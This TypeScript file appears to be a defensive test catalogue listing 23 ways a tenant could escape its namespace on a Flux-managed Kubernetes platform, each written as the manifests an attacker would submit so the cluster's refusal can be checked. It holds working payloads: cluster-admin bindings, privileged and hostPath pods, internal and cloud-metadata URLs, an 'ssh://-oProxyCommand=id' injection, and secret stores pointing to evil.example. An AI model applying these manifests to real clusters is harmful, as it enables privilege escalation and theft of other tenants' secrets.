// The ways out of a tenant's namespace that are known, each as the objects an attacker would write.
// Tried twice on a real API server: as the identity that applies the tenants repository (a forged
// commit) and as the tenant's own ServiceAccount (the member's manifests).

export type Manifest = {
  apiVersion: string;
  kind: string;
  metadata: Meta;
  [field: string]: unknown;
};
interface Meta {
  name: string;
  namespace?: string;
  labels?: Record<string, string>;
  annotations?: Record<string, string>;
  finalizers?: string[];
  ownerReferences?: unknown[];
}
export interface Escape {
  /** 1-12 are the published ones, from 13 on our own finding. */
  id: number;
  title: string;
  /** Each of these is tried alone; the escape is closed when every one is refused. */
  objects: Manifest[];
  /** Objects the attacker wants gone; there already, under the same names. */
  deletes?: Manifest[];
}

/** The attacker's tenant, and the neighbour it would like to reach. */
export const ATTACKER = 'mallory';
export const VICTIM = 'ada';
const HOME = `tenant-${ATTACKER}`;
const NEIGHBOUR = `tenant-${VICTIM}`;

const labels = (tenant: string) => ({
  'app.kubernetes.io/managed-by': 'hackspace-provisioner',
  'hackspace.dev/tenant': tenant,
});
const at = (name: string, namespace = HOME): Meta => ({
  name,
  namespace,
  labels: labels(namespace.replace(/^tenant-/, '')),
});
const namespace = (name: string, more: Record<string, string> = {}): Manifest => ({
  apiVersion: 'v1',
  kind: 'Namespace',
  metadata: {
    name,
    labels: {
      ...labels(name.replace(/^tenant-/, '')),
      'pod-security.kubernetes.io/enforce': 'restricted',
      ...more,
    },
  },
});
const git = (spec: Record<string, unknown>): Manifest => ({
  apiVersion: 'source.toolkit.fluxcd.io/v1',
  kind: 'GitRepository',
  metadata: at('tenant'),
  spec: {
    interval: '10m',
    url: 'https://git.hackspace.example/mallory/apps',
    ref: { branch: 'main' },
    ignore: 'kustomization.yaml\nkustomization.yml\nKustomization\n',
    ...spec,
  },
});
const sync = (spec: Record<string, unknown>): Manifest => ({
  apiVersion: 'kustomize.toolkit.fluxcd.io/v1',
  kind: 'Kustomization',
  metadata: at('tenant'),
  spec: {
    interval: '10m',
    prune: true,
    path: './',
    targetNamespace: HOME,
    serviceAccountName: 'tenant',
    sourceRef: { kind: 'GitRepository', name: 'tenant' },
    ...spec,
  },
});
const roleBinding = (name: string, role: string, subject: Record<string, string>): Manifest => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'RoleBinding',
  metadata: at(name),
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
  subjects: [subject],
});
const account = (ns = HOME) => ({ kind: 'ServiceAccount', name: 'tenant', namespace: ns });
const clusterAdmin = (name: string): Manifest => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRoleBinding',
  metadata: { name, labels: labels(ATTACKER) },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [account()],
});
const quota = (hard: Record<string, string>): Manifest => ({
  apiVersion: 'v1',
  kind: 'ResourceQuota',
  metadata: at('tenant'),
  spec: { hard },
});
const network = (name: string, spec: Record<string, unknown>): Manifest => ({
  apiVersion: 'networking.k8s.io/v1',
  kind: 'NetworkPolicy',
  metadata: at(name),
  spec,
});
const pod = (spec: Record<string, unknown>, container: Record<string, unknown> = {}): Manifest => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: at('probe'),
  spec: {
    securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } },
    containers: [{
      name: 'probe',
      image: 'registry.hackspace.example/probe:1',
      resources: { requests: { cpu: '10m', memory: '16Mi' }, limits: { memory: '16Mi', cpu: '1' } },
      securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
      ...container,
    }],
    ...spec,
  },
});
const store = (name: string, provider: Record<string, unknown>): Manifest => ({
  apiVersion: 'external-secrets.io/v1',
  kind: 'SecretStore',
  metadata: at(name),
  spec: { provider },
});
const vault = (more: Record<string, unknown>, jwt: Record<string, unknown> = {}) => ({
  vault: {
    server: 'https://bao.core.hackspace.example:8200',
    path: 'secret',
    version: 'v2',
    auth: {
      jwt: {
        path: 'jwt-member-prod',
        role: 'tenant',
        kubernetesServiceAccountToken: {
          serviceAccountRef: { name: 'tenant', audiences: ['openbao'] },
        },
        ...jwt,
      },
    },
    ...more,
  },
});
const externalSecret = (spec: Record<string, unknown>): Manifest => ({
  apiVersion: 'external-secrets.io/v1',
  kind: 'ExternalSecret',
  metadata: at('probe'),
  spec: { secretStoreRef: { name: 'openbao', kind: 'SecretStore' }, ...spec },
});
const configMap = (name: string, ns: string): Manifest => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: at(name, ns),
  data: { note: 'mine' },
});
const service = (spec: Record<string, unknown>): Manifest => ({
  apiVersion: 'v1',
  kind: 'Service',
  metadata: at('probe'),
  spec: { ports: [{ port: 80 }], ...spec },
});
const route = (spec: Record<string, unknown>): Manifest => ({
  apiVersion: 'gateway.networking.k8s.io/v1',
  kind: 'HTTPRoute',
  metadata: at('probe'),
  spec: {
    parentRefs: [{ name: 'members', namespace: 'traefik' }],
    hostnames: ['mallory.members.hackspace.example'],
    rules: [{ backendRefs: [{ name: 'web', port: 80 }] }],
    ...spec,
  },
});

const url = (address: string) => git({ url: address });

export const escapes: Escape[] = [
  {
    id: 1,
    title: 'Take the guards away: quota, limits, network policy, pod security',
    objects: [
      namespace(HOME, { 'pod-security.kubernetes.io/enforce': 'privileged' }),
      quota({
        pods: '9999',
        'requests.cpu': '1000',
        'requests.memory': '9Ti',
        'limits.memory': '9Ti',
        'requests.storage': '9Ti',
        persistentvolumeclaims: '999',
      }),
      quota({ pods: '5' }),
      network('default-deny', {
        podSelector: { matchLabels: { no: 'pod' } },
        policyTypes: ['Ingress'],
      }),
    ],
    deletes: [
      namespace(HOME),
      namespace(NEIGHBOUR),
      quota({}),
      network('default-deny', {}),
      { apiVersion: 'v1', kind: 'LimitRange', metadata: at('tenant') },
    ],
  },
  {
    id: 2,
    title: 'Open the network again, or mint a token that does not expire',
    objects: [
      network('open', {
        podSelector: {},
        ingress: [{}],
        egress: [{}],
        policyTypes: ['Ingress', 'Egress'],
      }),
      network('scan', {
        podSelector: {},
        policyTypes: ['Egress'],
        egress: [{ to: [{ ipBlock: { cidr: '10.0.0.0/8' } }] }],
      }),
      network('neighbours', {
        podSelector: {},
        policyTypes: ['Egress'],
        egress: [{ to: [{ namespaceSelector: {} }] }],
      }),
      {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: {
          ...at('forever'),
          annotations: { 'kubernetes.io/service-account.name': 'tenant' },
        },
        type: 'kubernetes.io/service-account-token',
      },
    ],
  },
  {
    id: 3,
    title: 'Make the source controller fetch an internal address',
    objects: [
      url('http://10.96.0.1/'),
      url('https://kubernetes.default.svc/api'),
      url('ssh://git@git.hackspace.example/mallory/apps'),
      git({ recurseSubmodules: true }),
      git({ proxySecretRef: { name: 'proxy' } }),
    ],
  },
  {
    id: 4,
    title: 'Spell the address so that a text comparison passes',
    objects: [
      url('http://2130706433/x'),
      url('http://0x7f.1/x'),
      url('https://git.hackspace.example@10.0.0.1/x'),
      url('https://git.hackspace.example.evil.example/x'),
      url('https://git.hackspace.example./mallory/apps'),
      url('https://git.hackspace.example:8443/mallory/apps'),
      url('https://git.hackspace.example/mallory/../admin/secrets'),
      url('https://git.hackspace.example/mallory/%2e%2e/admin'),
      url('ssh://-oProxyCommand=id/x'),
      url('https://git.hackspace.example/a?x=@git.hackspace.example'),
    ],
  },
  {
    id: 5,
    title: 'Slip one more document into a rendered file (YAML injection)',
    objects: [clusterAdmin('injected'), configMap('injected', 'kube-system')],
  },
  {
    id: 6,
    title: 'Have ${VAR} expanded by a parent with postBuild',
    objects: [
      sync({ postBuild: { substituteFrom: [{ kind: 'Secret', name: 'cluster-secrets' }] } }),
      sync({ postBuild: { substitute: { x: 'y' } } }),
    ],
  },
  {
    id: 7,
    title: 'Turn write access to the tenants repository into cluster-admin',
    objects: [
      clusterAdmin('up'),
      roleBinding('tenant', 'cluster-admin', account()),
      roleBinding('tenant', 'admin', account()),
      roleBinding('second', 'hackspace-tenant', account()),
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'Role',
        metadata: at('all'),
        rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
      },
    ],
  },
  {
    id: 8,
    title: "Claim another's namespace, or a system's",
    objects: [
      namespace('hackspace-core'),
      { ...namespace(NEIGHBOUR), metadata: { name: NEIGHBOUR, labels: labels(ATTACKER) } },
      namespace('monitoring', { 'hackspace.dev/tenant': ATTACKER }),
      roleBinding('tenant', 'hackspace-tenant', account(NEIGHBOUR)),
      configMap('mine-now', 'hackspace-tenancy'),
    ],
  },
  {
    id: 9,
    title: 'Drop the impersonation: an empty or missing identity',
    objects: [
      {
        ...sync({}),
        spec: {
          interval: '10m',
          prune: true,
          path: './',
          sourceRef: { kind: 'GitRepository', name: 'tenant' },
        },
      },
      sync({ serviceAccountName: '' }),
      sync({ serviceAccountName: 'kustomize-controller' }),
      roleBinding('tenant', 'hackspace-tenant', {
        kind: 'User',
        name: 'oidc:',
        apiGroup: 'rbac.authorization.k8s.io',
      }),
      roleBinding('tenant', 'hackspace-tenant', {
        kind: 'Group',
        name: 'system:authenticated',
        apiGroup: 'rbac.authorization.k8s.io',
      }),
    ],
  },
  {
    id: 10,
    title: 'Reconcile every millisecond',
    objects: [
      git({ interval: '1ms' }),
      sync({ interval: '1ms' }),
      sync({ retryInterval: '1s' }),
      sync({ timeout: '9h' }),
    ],
  },
  {
    id: 11,
    title: 'Use a reserved or malformed name',
    objects: [
      namespace('flux-system'),
      namespace('kube-system'),
      namespace('default'),
      namespace('kube-mallory'),
      namespace('tenant--'),
      configMap('probe', 'flux-system'),
    ],
  },
  {
    id: 12,
    title: "Read a neighbour's secrets through a SecretStore",
    objects: [
      store('second', vault({})),
      store('openbao', vault({ path: 'sys' })),
      store('openbao', vault({ server: 'https://evil.example:8200' })),
      store('openbao', vault({ namespace: 'root' })),
      store('openbao', vault({}, { role: 'admin' })),
      store(
        'openbao',
        vault({}, {
          kubernetesServiceAccountToken: {
            serviceAccountRef: { name: 'tenant', namespace: NEIGHBOUR, audiences: ['openbao'] },
          },
        }),
      ),
      externalSecret({
        data: [{ secretKey: 'x', remoteRef: { key: `tenants/${NEIGHBOUR}/calendar` } }],
      }),
      externalSecret({ secretStoreRef: { name: 'all', kind: 'ClusterSecretStore' } }),
    ],
  },
  {
    id: 13,
    title: 'Let kustomize fetch a remote file (--no-remote-bases does not stop it)',
    objects: [
      git({ ignore: undefined }),
      git({ ignore: '!kustomization.yaml' }),
      git({
        ignore: 'kustomization.yaml\nkustomization.yml\nKustomization\n!kustomization.yaml\n',
      }),
      sync({ components: ['https://evil.example/component'] }),
    ],
  },
  {
    id: 14,
    title: 'Run in a forged namespace without quota, limits or network policy',
    objects: [{ ...pod({}), metadata: at('probe', 'tenant-bare') }],
  },
  {
    id: 15,
    title: 'Catch traffic: ExternalName, external IPs, node ports, another host name',
    objects: [
      service({ type: 'ExternalName', externalName: 'kubernetes.default.svc' }),
      service({ externalIPs: ['10.43.0.1'] }),
      service({ type: 'NodePort' }),
      service({ type: 'LoadBalancer' }),
      route({ hostnames: ['ada.members.hackspace.example'] }),
      route({ hostnames: ['evilmallory.members.hackspace.example'] }),
      route({ hostnames: undefined }),
      route({ rules: [{ backendRefs: [{ name: 'web', port: 80, namespace: NEIGHBOUR }] }] }),
      {
        apiVersion: 'gateway.networking.k8s.io/v1',
        kind: 'Gateway',
        metadata: at('own'),
        spec: {
          gatewayClassName: 'traefik',
          listeners: [{ name: 'x', port: 443, protocol: 'HTTPS' }],
        },
      },
    ],
  },
  {
    id: 16,
    title: 'Let the External Secrets controller call an address, or make any object',
    objects: [
      store('openbao', {
        webhook: { url: 'http://169.254.169.254/latest', result: { jsonPath: '$' } },
      }),
      store('openbao', {
        kubernetes: {
          remoteNamespace: 'flux-system',
          auth: { serviceAccount: { name: 'tenant' } },
        },
      }),
      externalSecret({
        dataFrom: [{
          sourceRef: {
            generatorRef: {
              apiVersion: 'generators.external-secrets.io/v1alpha1',
              kind: 'Webhook',
              name: 'x',
            },
          },
        }],
      }),
      externalSecret({ dataFrom: [{ find: { name: { regexp: '.*' } } }] }),
      {
        apiVersion: 'generators.external-secrets.io/v1alpha1',
        kind: 'Webhook',
        metadata: at('x'),
        spec: { url: 'http://169.254.169.254/', result: { jsonPath: '$' } },
      },
      {
        apiVersion: 'external-secrets.io/v1alpha1',
        kind: 'PushSecret',
        metadata: at('x'),
        spec: { secretStoreRefs: [{ name: 'openbao' }], selector: { secret: { name: 'x' } } },
      },
    ],
  },
  {
    id: 17,
    title: "Reach the node: its files, network, processes, or a container's privileges",
    objects: [
      pod({ volumes: [{ name: 'h', hostPath: { path: '/' } }] }),
      pod({ hostNetwork: true }),
      pod({ hostPID: true }),
      pod({}, { securityContext: { privileged: true } }),
      {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: at('probe'),
        spec: {
          selector: { matchLabels: { app: 'x' } },
          template: {
            metadata: { labels: { app: 'x' } },
            spec: { hostNetwork: true, containers: [{ name: 'x', image: 'x' }] },
          },
        },
      },
    ],
  },
  {
    id: 18,
    title: 'Displace others: priority, tolerations, a fixed node, every node',
    objects: [
      pod({ priorityClassName: 'system-cluster-critical' }),
      pod({ tolerations: [{ operator: 'Exists' }] }),
      pod({ nodeName: 'control-1' }),
      pod({ schedulerName: 'mine' }),
      {
        apiVersion: 'apps/v1',
        kind: 'DaemonSet',
        metadata: at('probe'),
        spec: {
          selector: { matchLabels: { app: 'x' } },
          template: {
            metadata: { labels: { app: 'x' } },
            spec: { containers: [{ name: 'x', image: 'x' }] },
          },
        },
      },
      {
        apiVersion: 'policy/v1',
        kind: 'PodDisruptionBudget',
        metadata: at('probe'),
        spec: { maxUnavailable: 0, selector: {} },
      },
    ],
  },
  {
    id: 19,
    title: 'Switch the lock off: policies, webhooks, CRDs, API services',
    objects: [
      {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'ValidatingAdmissionPolicyBinding',
        metadata: { name: 'hackspace-flux-sources', labels: labels(ATTACKER) },
        spec: { policyName: 'hackspace-flux-sources', validationActions: ['Audit'] },
      },
      {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'MutatingWebhookConfiguration',
        metadata: { name: 'mallory', labels: labels(ATTACKER) },
        webhooks: [],
      },
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRole',
        metadata: {
          name: 'more',
          labels: { ...labels(ATTACKER), 'rbac.authorization.k8s.io/aggregate-to-admin': 'true' },
        },
        rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
      },
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRole',
        metadata: { name: 'hackspace-tenant', labels: labels(ATTACKER) },
        rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
      },
      {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: { name: 'settings', namespace: 'hackspace-tenancy', labels: labels(ATTACKER) },
        data: { gitOrigins: 'https://evil.example' },
      },
      {
        apiVersion: 'apiregistration.k8s.io/v1',
        kind: 'APIService',
        metadata: { name: 'v1.evil.example', labels: labels(ATTACKER) },
        spec: { group: 'evil.example', version: 'v1', groupPriorityMinimum: 1, versionPriority: 1 },
      },
    ],
  },
  {
    id: 20,
    title: 'Apply to another cluster or namespace, or read another source',
    objects: [
      sync({ kubeConfig: { secretRef: { name: 'other-cluster' } } }),
      sync({ targetNamespace: NEIGHBOUR }),
      sync({ sourceRef: { kind: 'GitRepository', name: 'flux-system', namespace: 'flux-system' } }),
      sync({ path: '../../etc' }),
      configMap('mine', NEIGHBOUR),
    ],
  },
  {
    id: 21,
    title: 'Run Flux kinds beside the one Kustomization (Helm, alerts, image automation)',
    objects: [
      { ...sync({}), metadata: at('second') },
      {
        apiVersion: 'source.toolkit.fluxcd.io/v1',
        kind: 'HelmRepository',
        metadata: at('charts'),
        spec: { url: 'http://10.0.0.1/', interval: '10m' },
      },
      {
        apiVersion: 'source.toolkit.fluxcd.io/v1',
        kind: 'Bucket',
        metadata: at('bucket'),
        spec: { endpoint: '169.254.169.254', bucketName: 'x', interval: '10m', insecure: true },
      },
      {
        apiVersion: 'helm.toolkit.fluxcd.io/v2',
        kind: 'HelmRelease',
        metadata: at('x'),
        spec: {
          interval: '10m',
          chart: { spec: { chart: 'x', sourceRef: { kind: 'HelmRepository', name: 'charts' } } },
        },
      },
    ],
  },
  {
    id: 22,
    title: 'Stay for ever, or drag others along: finalizers, owner references, borrowed labels',
    objects: [
      {
        ...namespace(HOME),
        metadata: { ...namespace(HOME).metadata, finalizers: ['mallory.example/stay'] },
      },
      namespace(HOME, { 'pod-security.kubernetes.io/enforce-version': 'v1.19' }),
      namespace(HOME, { 'hackspace.dev/trusted': 'yes' }),
      {
        apiVersion: 'v1',
        kind: 'ServiceAccount',
        metadata: {
          ...at('tenant'),
          ownerReferences: [{
            apiVersion: 'v1',
            kind: 'ConfigMap',
            name: 'x',
            uid: '00000000-0000-0000-0000-000000000000',
          }],
        },
      },
    ],
  },
  {
    id: 23,
    title: 'Pin storage that is not for members',
    objects: [
      {
        apiVersion: 'v1',
        kind: 'PersistentVolumeClaim',
        metadata: at('probe'),
        spec: {
          accessModes: ['ReadWriteOnce'],
          storageClassName: 'local-etcd',
          resources: { requests: { storage: '1Gi' } },
        },
      },
      {
        apiVersion: 'v1',
        kind: 'PersistentVolumeClaim',
        metadata: at('probe'),
        spec: {
          accessModes: ['ReadWriteOnce'],
          volumeName: 'pvc-of-ada',
          resources: { requests: { storage: '1Gi' } },
        },
      },
      {
        apiVersion: 'v1',
        kind: 'PersistentVolume',
        metadata: { name: 'node-root', labels: labels(ATTACKER) },
        spec: {
          capacity: { storage: '1Gi' },
          accessModes: ['ReadWriteOnce'],
          hostPath: { path: '/' },
        },
      },
    ],
  },
];
